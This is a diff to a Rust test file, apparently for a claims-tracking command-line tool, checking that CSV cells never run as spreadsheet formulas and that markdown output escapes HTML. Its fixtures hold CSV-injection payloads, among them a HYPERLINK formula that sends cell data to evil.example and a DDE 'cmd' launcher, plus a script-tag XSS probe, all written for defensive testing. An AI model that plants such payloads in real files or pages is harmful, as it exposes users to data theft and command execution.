@@ -13,7 +13,7 @@ const ARTICLE: &str =
     "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") GDP grew 3% in 2024.\n\n\
 @SUM(A1:A9) Exports rose 5% to $2 billion in 2023, officials said.\n\n\
 +cmd|' /C calc'!A0 Prices fell 2% in 2022.\n\n\
--2+3 Inflation was 4% in 2021 <script>alert(1)</script> & more.\n";
+-2+3 Inflation was 4% in 2021 & more, as 3 < 4 > 2.\n";
 
 /// RFC 4180 records, as a spreadsheet reads them.
 fn read_csv(text: &str) -> Vec<Vec<String>> {
@@ -135,6 +135,10 @@ fn no_csv_cell_runs_as_a_formula_and_each_keeps_its_text() {
 #[test]
 fn markdown_output_carries_no_html() {
     let (_dir, db) = desk();
+    run(
+        &db,
+        &["review", "1", "--note", "<script>alert(1)</script> & more"],
+    );
     for args in [
         vec!["claims", "--format", "markdown"],
         vec!["history", "1", "--format", "markdown"],
@@ -143,7 +147,16 @@ fn markdown_output_carries_no_html() {
         let md = run(&db, &args);
         assert!(!md.contains('<') && !md.contains('>'), "{args:?}: {md}");
         if args[0] == "claims" {
-            assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more"));
+            assert!(
+                md.contains("in 2021 &amp; more, as 3 &lt; 4 &gt; 2."),
+                "{md}"
+            );
+        }
+        if args[0] == "history" {
+            assert!(
+                md.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more"),
+                "{md}"
+            );
         }
     }
 }
